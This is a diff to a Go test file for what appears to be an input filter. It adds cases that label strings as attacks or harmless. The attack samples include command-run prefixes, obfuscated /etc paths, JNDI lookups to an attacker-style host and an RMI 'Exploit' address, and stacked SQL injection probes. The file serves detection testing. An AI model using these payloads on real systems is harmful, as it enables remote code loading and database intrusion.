@@ -79,6 +79,38 @@ func TestGrammarShapes(t *testing.T) {
 		{"Pipe the output | sh is not needed", false},
 		{"To extract: tar -xzf archive.tar.gz", false},
 		{"ls -la shows hidden files", false},
+		{"ll /var/www/", true},
+		// A command behind a prefix that runs it, as the whole value.
+		{"time who", true},
+		{"ti''me who", true},
+		{"\"time\" who", true},
+		{"strace ls", true},
+		{"nohup id", true},
+		{"time curl example.org", true},
+		{"what time who won", false},
+		{"time is money", false},
+		{"nice cat", false},
+		{"sudo make me a sandwich", false},
+		// A glob class with a slash matches no file name character.
+		{"/[e//]tc", true},
+		{"/[e///]tc", true},
+		{"/src/[id]/page.tsx", false},
+		{"/[a-z/]", false},
+		// The process classes under any package name.
+		{"java.evil.runtime", true},
+		{"java.x.y.ProcessBuilder", true},
+		{"java.runtime.version", false},
+		{"java.runtime.name", false},
+		// A JNDI URL of a remote naming service, however it is wrapped.
+		{"jndi:ldap://evil.example/a", true},
+		{"$&lbracejndi:ldap://evil.example/webshell}", true},
+		{"x jndi: rmi://203.0.113.5:1099/Exploit", true},
+		{"jndi:java:comp/env/jdbc/orders", false},
+		{"java:comp/env/jdbc/orders", false},
+		// A stacked SELECT of a server variable, also glued.
+		{"';SELECT*@@version#--", true},
+		{"';select(@@version)", true},
+		{"select*from the menu; select @ the bar", false},
 	}
 	for _, c := range values {
 		for _, place := range []string{"query", "form", "json"} {
